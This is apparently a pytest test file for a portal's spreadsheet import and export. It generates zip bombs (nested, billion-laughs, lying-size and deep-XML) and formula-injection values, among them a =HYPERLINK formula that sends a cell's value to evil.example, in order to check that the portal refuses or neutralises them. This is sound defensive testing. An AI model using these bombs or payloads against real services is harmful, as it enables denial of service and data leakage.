"""Uploads are bounded before they are parsed (finding 4), parsed only in the worker, and what
the portal writes into workbooks is text, never a formula (finding 8)."""

from __future__ import annotations

import io
import os
import time
import tracemalloc
import zipfile

import pytest
from openpyxl import load_workbook

from portal.extensions import db
from portal.i18n import shown
from portal.users import imports, workbook
from portal.users.models import ImportRun
from tests.users.workbooks import fill


@pytest.fixture
def corp(owner, account):
    from portal.domains.models import ENABLED
    from portal.domains.services import add_domain

    domain = add_domain(owner, account, "example.org", "local")
    domain.status, domain.verified_at = ENABLED, domain.created_at
    db.session.commit()
    return domain


def _zip(entries: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for name, content in entries.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def _minimal_parts() -> dict[str, bytes]:
    return {"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<workbook/>"}


def many_entries_bomb() -> bytes:
    """Finding 4: 197 sheets of 1.04 MB each, each compressed only ~50 times (under any per-entry
    ratio check), together far more than a workbook needs."""
    block = os.urandom(10_000).hex().encode()
    sheet = b"<worksheet>" + block * (1_090_000 // len(block)) + b"</worksheet>"
    return _zip({**_minimal_parts(), **{f"xl/worksheets/sheet{n}.xml": sheet for n in range(197)}})


def nested_bomb() -> bytes:
    inner = _zip({f"layer{n}.txt": b"\0" * 10_000_000 for n in range(10)})
    return _zip({**_minimal_parts(), "xl/embeddings/inner.xlsx": inner, "xl/worksheets/sheet1.xml": b"<a/>"})


def deep_xml_bomb() -> bytes:
    depth = 2_000_000
    return _zip({**_minimal_parts(), "xl/worksheets/sheet1.xml": b"<a>" * depth + b"</a>" * depth})


def laughs_bomb() -> bytes:
    entities = "".join(f'<!ENTITY l{n} "{("&l%d;" % (n - 1)) * 10 if n else "lol"}">' for n in range(10))
    document = f'<?xml version="1.0"?><!DOCTYPE w [{entities}]><worksheet>&l9;</worksheet>'.encode()
    return _zip({**_minimal_parts(), "xl/worksheets/sheet1.xml": document})


def lying_sizes_bomb() -> bytes:
    """An entry whose header claims a small size but expands to 150 MB."""
    data = bytearray(_zip({**_minimal_parts(), "xl/worksheets/sheet1.xml": b"\0" * 150_000_000}))
    for signature in (b"PK\x03\x04", b"PK\x01\x02"):
        start = 0
        while (at := data.find(signature, start)) != -1:
            name_length_at = at + (26 if signature == b"PK\x03\x04" else 28)
            size_at = at + (22 if signature == b"PK\x03\x04" else 24)
            name_length = int.from_bytes(data[name_length_at:name_length_at + 2], "little")
            name_at = at + (30 if signature == b"PK\x03\x04" else 46)
            if bytes(data[name_at:name_at + name_length]) == b"xl/worksheets/sheet1.xml":
                data[size_at:size_at + 4] = (1000).to_bytes(4, "little")
            start = at + 4
    return bytes(data)


@pytest.mark.parametrize("bomb, reason", [
    (many_entries_bomb, "expands to more than"),
    (nested_bomb, "holds another file or archive"),
    (deep_xml_bomb, "far more than its size|built to exhaust the reader"),
    (laughs_bomb, "built to exhaust the reader"),
    (lying_sizes_bomb, "damaged|cannot be read"),
], ids=["many-entries", "nested", "deep-xml", "billion-laughs", "lying-sizes"])
def test_upload__zip_bombs_are_refused_in_seconds_and_little_memory(owner, account, corp, client, auth, run_jobs,
                                                                     bomb, reason):
    import re

    data = bomb()
    auth.login("owner@example.org")
    tracemalloc.start()
    started = time.monotonic()
    try:
        response = client.post(f"/accounts/{account.id}/users/import",
                               data={"workbook": (io.BytesIO(data), "bomb.xlsx")}, content_type="multipart/form-data")
        request_seconds = time.monotonic() - started
        run_jobs()
        total_seconds = time.monotonic() - started
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    if response.status_code == 422:
        message = response.get_data(as_text=True)
    else:
        assert response.status_code == 302
        run = db.session.execute(db.select(ImportRun)).scalar_one()
        assert run.status == "refused"
        message = shown(run.fatal)
    assert re.search(reason, message), message
    assert request_seconds < 2, "the web request only looks at the container"
    assert total_seconds < 10
    assert peak - len(data) * 4 < 50 * 1024 * 1024, f"{peak / 1e6:.0f} MB at the peak"


def test_upload__the_web_request_never_parses_the_sheets(owner, account, corp, client, auth, monkeypatch):
    def no_parsing(*_args, **_kwargs):
        raise AssertionError("the workbook was parsed inside the web request")

    monkeypatch.setattr(workbook, "load_workbook", no_parsing)
    monkeypatch.setattr(workbook, "deep_scan", no_parsing)
    auth.login("owner@example.org")
    data = fill(workbook.template(account), users=[("Ann", "Able", "ann@example.org", "")])
    response = client.post(f"/accounts/{account.id}/users/import",
                           data={"workbook": (io.BytesIO(data), "staff.xlsx")}, content_type="multipart/form-data")
    assert response.status_code == 302
    assert db.session.execute(db.select(ImportRun)).scalar_one().status == "checking"


def test_upload__a_cell_holding_an_invalid_character_is_refused_with_the_reason(owner, account, corp, run_jobs):
    """Finding 9: U+FFFF in a cell used to end in a ParseError (HTTP 500)."""
    data = fill(workbook.template(account), users=[("Ann", "Able", "ann@example.org", "")])
    parts = dict((name, zipfile.ZipFile(io.BytesIO(data)).read(name)) for name in zipfile.ZipFile(io.BytesIO(data)).namelist())
    users_sheet = next(name for name, content in parts.items() if b"ann@example.org" in content)
    parts[users_sheet] = parts[users_sheet].replace(b"Ann", b"A&#xFFFF;nn")
    run = imports.receive(owner, account, "odd.xlsx", _zip(parts))
    db.session.commit()
    run_jobs()
    db.session.refresh(run)
    assert run.status == "refused" and "not valid XML" in shown(run.fatal)


@pytest.mark.parametrize("first_name", ["\t=1+1", "=HYPERLINK(\"http://evil.example\",\"x\")", "+1+1", "@SUM(A1)",
                                        " -2+3", "An\tn"])
def test_import__values_are_checked_as_they_will_be_stored(owner, account, corp, run_jobs, first_name):
    """Finding 8: the tab was stripped after the formula check."""
    data = fill(workbook.template(account), users=[(first_name, "Able", "ann@example.org", "")])
    run = imports.receive(owner, account, "f.xlsx", data)
    db.session.commit()
    run_jobs()
    db.session.refresh(run)
    assert run.status == "previewed" and run.to_create == 0 and run.problem_count == 1
    assert run.problems[0]["column"] == "A"


def test_users_report__names_that_look_like_formulas_stay_text(owner, account, make, run_jobs):
    evil = '=HYPERLINK("http://evil.example/?"&B3,"Open")'
    make.member(account, make.user("eve@example.org", name=evil))
    from portal.users import reports
    from portal.users.models import UsersReport

    reports.request_report(owner, account)
    db.session.commit()
    run_jobs()
    report = db.session.execute(db.select(UsersReport)).scalar_one()
    sheet = load_workbook(io.BytesIO(report.content))["Users"]
    cell = next(row[0] for row in sheet.iter_rows(min_row=2) if row[1].value == "eve@example.org")
    assert cell.value == evil and cell.data_type == "s" and cell.quotePrefix
    sheet_xml = zipfile.ZipFile(io.BytesIO(report.content)).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet_xml


def test_import_result__rows_that_look_like_formulas_stay_text(owner, account, corp, run_jobs):
    from tests.users.workbooks import fill as fill_book

    def plant(book):
        book["Users"]["E3"] = "=1+1"  # Bob's recovery address: refused, and copied into the result as text

    data = fill_book(workbook.template(account), users=[("Ann", "Able", "ann@example.org", ""),
                                                        ("Bob", "Baker", "bob@example.org", "")], edit=plant)
    run = imports.receive(owner, account, "r.xlsx", data)
    db.session.commit()
    run_jobs()
    db.session.refresh(run)
    imports.confirm(owner, run)
    db.session.commit()
    run_jobs()
    db.session.refresh(run)
    sheet_xml = zipfile.ZipFile(io.BytesIO(run.result)).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet_xml


def _with_compression(data: bytes, part: str, method: int) -> bytes:
    """``data`` with ``part`` claiming another compression method (in its local and central headers)."""
    archive = zipfile.ZipFile(io.BytesIO(data))
    entry = archive.getinfo(part)
    patched = bytearray(data)
    patched[entry.header_offset + 8:entry.header_offset + 10] = method.to_bytes(2, "little")
    position = archive.start_dir
    while True:
        position = patched.index(b"PK\x01\x02", position)
        name_length = int.from_bytes(patched[position + 28:position + 30], "little")
        if patched[position + 46:position + 46 + name_length].decode() == part:
            patched[position + 10:position + 12] = method.to_bytes(2, "little")
            return bytes(patched)
        position += 46 + name_length


@pytest.mark.parametrize("method", [99, zipfile.ZIP_BZIP2, zipfile.ZIP_LZMA])
def test_upload__a_part_compressed_in_a_way_xlsx_is_not_is_refused_with_its_reason(owner, account, corp, run_jobs,
                                                                                  method):
    """zipfile raises NotImplementedError for a compression method it does not implement (here 99,
    AES), and expands bzip2 and LZMA: the upload is refused before any reading, with its reason,
    and no job fails with that error."""
    data = fill(workbook.template(account), users=[("Ann", "Able", "ann@example.org", "")])
    names = zipfile.ZipFile(io.BytesIO(data)).namelist()
    users_sheet = next(name for name in names
                       if b"ann@example.org" in zipfile.ZipFile(io.BytesIO(data)).read(name))
    odd = _with_compression(data, users_sheet, method)
    if method == 99:
        with pytest.raises(NotImplementedError):
            zipfile.ZipFile(io.BytesIO(odd)).read(users_sheet)
    with pytest.raises(workbook.WorkbookRefused) as refused:
        imports.receive(owner, account, "odd.xlsx", odd)
    assert f"The part {users_sheet} of the workbook is compressed in a way .xlsx workbooks are not" in str(
        refused.value)
    db.session.rollback()
    assert db.session.execute(db.select(db.func.count()).select_from(ImportRun)).scalar_one() == 0


def test_upload__a_row_numbered_far_down_is_refused_without_reading_every_empty_row_before_it(
        owner, account, corp, run_jobs):
    """A review: a 5 KB workbook whose one row is numbered 5,000,000 made the reader yield every
    empty row before it (minutes per sheet at 2,000,000,000), counted against no limit."""
    import re

    data = fill(workbook.template(account), users=[("Ann", "Able", "ann@example.org", "")])
    archive = zipfile.ZipFile(io.BytesIO(data))
    parts = {name: archive.read(name) for name in archive.namelist()}
    sheet = next(name for name, content in parts.items() if b"ann@example.org" in content)
    row = re.search(rb'<row r="(\d+)"[^>]*>(?:(?!</row>).)*?ann@example\.org.*?</row>', parts[sheet], re.S)
    number = row.group(1)
    moved = re.sub(rb'(r="[A-Z]+)' + number + rb'"', rb'\g<1>5000000"', row.group(0).replace(
        b'<row r="' + number + b'"', b'<row r="5000000"', 1))
    # Without the sheet's stated dimension (optional), the reader walks up to the last row.
    parts[sheet] = re.sub(rb"<dimension [^>]*/>", b"", parts[sheet].replace(row.group(0), moved))
    far = _zip(parts)
    assert len(far) < 60_000
    run = imports.receive(owner, account, "far.xlsx", far)
    db.session.commit()
    run_jobs()
    db.session.refresh(run)
    assert run.status == "refused" and "goes on beyond row" in shown(run.fatal), shown(run.fatal)
